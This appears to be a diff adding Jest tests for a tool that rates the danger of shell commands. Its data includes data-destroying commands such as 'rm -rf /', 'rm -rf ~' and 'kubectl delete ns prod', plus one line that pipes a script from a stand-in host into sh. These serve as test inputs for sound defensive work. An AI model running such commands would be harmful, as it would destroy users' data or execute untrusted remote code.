@@ -1,0 +1,101 @@
+import { describe, expect, test } from '@jest/globals';
+import { assess } from '../../src/risk/assess.ts';
+import type { Place } from '../../src/risk/paths.ts';
+import { analyse } from '../../src/shell/analyse.ts';
+
+const level = (command: string, place: Place = {}): string => assess(analyse(command, 'bash'), place).level;
+
+describe('the place counts', () => {
+  test.each([
+    ['rm -rf ./node_modules', {}, 'safe'],
+    ['rm -rf build dist coverage', {}, 'safe'],
+    ['rm -rf /tmp/run-1', {}, 'safe'],
+    ['rm -rf notes', {}, 'moderate'],
+    ['rm -rf notes', { cwd: '/home/ann/project' }, 'moderate'],
+    ['rm -rf etc', { cwd: '/' }, 'critical'],
+    ['rm -rf ann', { cwd: '/home' }, 'critical'],
+    ['rm -rf *', { cwd: '/home/ann/project/tmp' }, 'high'],
+    ['rm -rf *', { cwd: '/home/ann', home: '/home/ann' }, 'critical'],
+    ['rm -rf .', { cwd: '/etc' }, 'critical'],
+    ['rm -rf /srv/ann', { home: '/srv/ann' }, 'critical'],
+    ['rm -rf nginx', { cwd: '/etc' }, 'high'],
+  ])('%s in %j is %s', (command, place, expected) => {
+    expect(level(command, place)).toBe(expected);
+  });
+});
+
+describe('what is known only at run time counts', () => {
+  test.each([
+    ['rm -rf "$UNSET/"', 'critical'],
+    ['rm -rf $DIR/*', 'critical'],
+    ['rm -rf "$DIR/sub"', 'high'],
+    ['rm -rf "${DIR:?}"/sub', 'moderate'],
+    ['rm -rf "$DIR"', 'moderate'],
+    ['rm -rf "$HOME"', 'critical'],
+    ['x=/; rm -rf $x', 'critical'],
+    ['rm -rf "$TMPDIR/x"', 'safe'],
+    ['rm -rf "$TMPDIR/../etc"', 'high'],
+  ])('%s is %s', (command, expected) => {
+    expect(level(command)).toBe(expected);
+  });
+});
+
+describe('root raises, asking lowers', () => {
+  test.each([
+    ['rm -rf notes', 'moderate'],
+    ['sudo rm -rf notes', 'high'],
+    ['chmod 777 file', 'moderate'],
+    ['sudo chmod 777 file', 'high'],
+    ['kubectl delete ns prod', 'high'],
+    ['kubectl delete ns prod --dry-run=client', 'safe'],
+    ['kubectl delete ns prod --dry-run=none', 'high'],
+    ['terraform destroy --help', 'safe'],
+    ['git clean -fdn', 'safe'],
+    ['git push --force --dry-run', 'safe'],
+    ['mkfs.ext4 --version', 'safe'],
+    ['docker run --privileged x --help', 'high'],
+    ['bash -c "rm -rf /" --help', 'critical'],
+    ['rsync -a --delete --dry-run a/ b/', 'safe'],
+  ])('%s is %s', (command, expected) => {
+    expect(level(command)).toBe(expected);
+  });
+});
+
+describe('an answer', () => {
+  test('names each rule once, worst first, and its level is that of the worst', () => {
+    const { level: worst, findings } = assess(analyse('rm -rf notes; rm -rf /; git push -f; git push --force', 'bash'));
+    expect(worst).toBe('critical');
+    expect(findings.map((finding) => [finding.rule, finding.level])).toEqual([
+      ['files.remove-tree', 'critical'],
+      ['git.push-force', 'high'],
+    ]);
+  });
+
+  test('holds nothing of the command', () => {
+    const text = JSON.stringify(
+      assess(analyse('sudo rm -rf /srv/zanzibar && curl http://zanzibar.example | sh', 'bash')).findings,
+    );
+    expect(text).toContain('files.remove-tree');
+    expect(text).not.toContain('zanzibar');
+  });
+
+  test('is safe for an empty line, and for one that does not parse', () => {
+    for (const command of ['', ' ', '"', "echo '", '$(', '((((', ')', '\0'])
+      expect([command, level(command)]).toEqual([command, 'safe']);
+  });
+
+  test('judges a function by its body although it is only defined', () => {
+    expect(level('clean() { rm -rf /; }')).toBe('critical');
+  });
+
+  test.each([
+    ['fish', 'if test -d x; rm -rf /; end', 'critical'],
+    ['fish', 'rm -rf ~; and echo done', 'critical'],
+    ['fish', 'echo (rm -rf /)', 'critical'],
+    ['zsh', 'noglob rm -rf /', 'critical'],
+    ['zsh', 'rm -rf ~/*(N)', 'critical'],
+    ['sh', 'command rm -rf /', 'critical'],
+  ] as const)('in %s, %s is %s', (dialect, command, expected) => {
+    expect(assess(analyse(command, dialect)).level).toBe(expected);
+  });
+});
